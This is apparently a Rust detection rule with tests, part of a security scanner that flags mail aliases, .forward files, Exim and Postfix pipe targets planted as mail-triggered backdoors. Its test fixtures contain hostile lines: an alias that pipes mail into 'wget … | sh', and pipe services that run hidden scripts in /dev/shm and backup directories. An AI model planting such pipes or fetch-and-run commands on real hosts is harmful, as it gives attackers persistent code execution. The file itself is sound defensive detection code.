//! `persistence.pipe` — mail handed to a program: aliases and table entries `|command`,
//! `.forward`/`.qmail`/procmail pipes, sieve `pipe`/`execute`, Postfix `mailbox_command`, and
//! master.cf `pipe` services.
//!
//! **Why**: a pipe runs attacker code as the recipient (or `nobody`) on every message — a
//! backdoor triggered by sending mail. **How**: every pipe target; a well-known delivery
//! program (procmail, maildrop, Dovecot LDA, spamc, Mailman, …) is quiet unless the command
//! itself looks planted ([`crate::detect::host::risky_command`]: downloads, network tools,
//! `base64 -d`, inline code, a program in `/tmp`, `/dev/shm` or a hidden directory).
//! master.cf `pipe` services are judged by their `argv=` the same way. **Severity**: high for
//! a planted-looking command or any pipe of an account that cannot log in; medium for another
//! unknown program in a user's file. **ATT&CK**: T1546 (Event Triggered Execution), T1114.003.
//! **False positives**: site scripts (ticket systems, list managers) not in the known list —
//! medium, named by path for a quick check.

use super::super::host::{
    program_name, risky_command, Cites, ConfigRule, Host, KNOWN_DELIVERY_PROGRAMS,
};
use crate::detect::finding::{Finding, Severity};
use crate::hostconf::maps::{targets, Target};

/// The rule.
pub struct Pipe;

/// Severity and reason for a pipe to `cmd` (`None`: a known delivery program, quiet).
fn judge(cmd: &str, nologin: bool) -> Option<(Severity, String)> {
    if let Some(why) = risky_command(cmd) {
        return Some((Severity::High, why.to_string()));
    }
    if nologin {
        return Some((Severity::High, "on an account that cannot log in".into()));
    }
    if KNOWN_DELIVERY_PROGRAMS.contains(&program_name(cmd).as_str()) {
        return None;
    }
    Some((
        Severity::Medium,
        "an unknown program receives every message".into(),
    ))
}

impl ConfigRule for Pipe {
    fn check(&self, host: &Host) -> Vec<Finding> {
        let mut out = Vec::new();
        let mut push = |c: Cites,
                        sev: Severity,
                        cmd: &str,
                        whose: String,
                        why: String,
                        user: Option<String>| {
            let mut f = c.finding(
                "persistence.pipe",
                sev,
                vec!["T1546", "T1114.003"],
                format!("Mail of {whose} is piped to {}", program_name(cmd)),
                format!("mail of {whose} runs `{cmd}`: {why}"),
            );
            f.entities.users.extend(user);
            out.push(f);
        };
        for (_, map, at) in host.alias_maps() {
            for e in map.effective() {
                for t in targets(&e.value) {
                    let Target::Pipe(cmd) = t else { continue };
                    let Some((sev, why)) = judge(&cmd, false) else {
                        continue;
                    };
                    let c = Cites::entry(&host.conf, &at, &map, &e);
                    push(c, sev, &cmd, e.key.clone(), why, Some(e.key.clone()));
                }
            }
        }
        for d in host.delivery_files() {
            for (n, t) in &d.rules {
                let Target::Pipe(cmd) = t else { continue };
                let nologin = d.owner.is_some_and(|o| host.is_nologin(o));
                let Some((sev, why)) = judge(cmd, nologin) else {
                    continue;
                };
                let c = Cites::one(&host.conf, d.path, Some(*n));
                let whose = d.owner.unwrap_or("every user").to_string();
                push(
                    c,
                    sev,
                    cmd,
                    whose,
                    format!("{why} ({})", d.path),
                    d.owner.map(str::to_string),
                );
            }
        }
        // Exim redirect routers whose data is a pipe, and the system filter's pipes.
        for x in host.exim_redirects() {
            for cmd in x.targets.iter().filter_map(|t| t.strip_prefix('|')) {
                let Some((sev, why)) = judge(cmd, false) else {
                    continue;
                };
                push(
                    x.cites(&host.conf),
                    sev,
                    cmd,
                    x.whose().to_string(),
                    format!("{why} (Exim router {})", x.router.name),
                    None,
                );
            }
        }
        // Exim pipe transports a router hands mail to (or that look planted on their own).
        for e in &host.exim {
            for t in e
                .transports
                .iter()
                .filter(|t| t.get("driver") == Some("pipe"))
            {
                let Some((cmd, at)) = t.options.get("command") else {
                    continue;
                };
                let cmd = cmd.trim_matches('"');
                let users: Vec<&crate::hostconf::exim::Router> = e
                    .routers
                    .iter()
                    .filter(|r| r.get("transport") == Some(t.name.as_str()))
                    .collect();
                if users.is_empty() && risky_command(cmd).is_none() {
                    continue;
                }
                let Some((sev, why)) = judge(cmd, false) else {
                    continue;
                };
                let mut c = Cites::one(&host.conf, &at.0, Some(at.1));
                for r in &users {
                    if let Some((_, ra)) = r.options.get("transport") {
                        c.add(&host.conf, &ra.0, Some(ra.1));
                    }
                }
                let whose: Vec<String> = users
                    .iter()
                    .map(|r| {
                        let parts = r
                            .get("local_parts")
                            .unwrap_or("every local part it matches");
                        format!("{parts} (router {})", r.name)
                    })
                    .collect();
                let whose = if whose.is_empty() {
                    "no router yet".to_string()
                } else {
                    whose.join(", ")
                };
                push(
                    c,
                    sev,
                    cmd,
                    whose,
                    format!("{why} (Exim transport {})", t.name),
                    None,
                );
            }
        }
        for e in &host.exim {
            let Some((path, _)) = e.main.get("system_filter") else {
                continue;
            };
            let Some(file) = host.conf.get(path) else {
                continue;
            };
            for (n, t) in crate::hostconf::delivery::exim_filter(&file.text()) {
                let Target::Pipe(cmd) = t else { continue };
                let Some((sev, why)) = judge(&cmd, false) else {
                    continue;
                };
                let c = Cites::one(&host.conf, path, Some(n));
                push(
                    c,
                    sev.max(Severity::High),
                    &cmd,
                    "every message".into(),
                    format!("{why} (Exim system filter {path})"),
                    None,
                );
            }
        }
        for pf in &host.postfix {
            let (cmd, at) = pf.setting(None, "mailbox_command");
            if let (Some((p, l)), Some(why)) = (at, risky_command(&cmd)) {
                let c = Cites::one(&host.conf, &p, Some(l));
                push(
                    c,
                    Severity::High,
                    &cmd,
                    "every local user".into(),
                    format!("mailbox_command {why}"),
                    None,
                );
            }
            for s in &pf.services {
                let (true, Some(argv)) = (s.command == "pipe", s.argv()) else {
                    continue;
                };
                if let Some(why) = risky_command(&argv) {
                    let c = Cites::one(&host.conf, &pf.master_path(), Some(s.line));
                    push(
                        c,
                        Severity::High,
                        &argv,
                        format!("transport {}", s.name),
                        format!("master.cf pipe service {why}"),
                        None,
                    );
                }
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::rules::config_tests::host;

    #[test]
    fn planted_pipes_are_found() {
        let h = host(&[
            ("/etc/passwd", "backup:x:34:34::/var/backups:/usr/sbin/nologin\nann:x:1000:1000::/home/ann:/bin/bash\n"),
            ("/etc/postfix/main.cf", "myhostname = mx.lab.example\n"),
            ("/etc/postfix/master.cf", "smtp inet n - y - - smtpd\nsync unix - n n - - pipe\n  flags=Rq user=nobody argv=/dev/shm/.s ${sender}\n"),
            ("/etc/aliases", "postmaster: root\nupdate: \"|/usr/bin/wget -qO- http://x/u | sh\"\n"),
            ("/var/backups/.forward", "\"|/var/backups/.cache/sync.sh\"\n"),
            ("/home/ann/.forward", "\"|/home/ann/bin/sorter\"\n"),
        ]);
        let f = Pipe.check(&h);
        let got: Vec<(String, Severity)> = f
            .iter()
            .map(|f| (f.entities.files.join(" "), f.severity))
            .collect();
        assert_eq!(
            got,
            [
                ("/etc/aliases".to_string(), Severity::High),
                ("/home/ann/.forward".to_string(), Severity::Medium),
                ("/var/backups/.forward".to_string(), Severity::High),
                ("/etc/postfix/master.cf".to_string(), Severity::High),
            ]
        );
        assert_eq!(f[3].evidence[0].lines, [2]);
    }

    #[test]
    fn ordinary_delivery_programs_are_quiet() {
        let h = host(&[
            ("/etc/passwd", "ann:x:1000:1000::/home/ann:/bin/bash\n"),
            ("/etc/postfix/main.cf", "mailbox_command = /usr/lib/dovecot/deliver -c /etc/dovecot/dovecot.conf -m \"${EXTENSION}\"\n"),
            ("/etc/postfix/master.cf", "maildrop unix - n n - - pipe\n  flags=DRXhu user=vmail argv=/usr/bin/maildrop -d ${recipient}\n"),
            ("/etc/aliases", "list: \"|/usr/lib/mailman/mail/mailman post list\"\n"),
            ("/home/ann/.forward", "\"|/usr/bin/procmail -f-\"\n"),
        ]);
        assert!(Pipe.check(&h).is_empty(), "{:?}", Pipe.check(&h));
    }
}
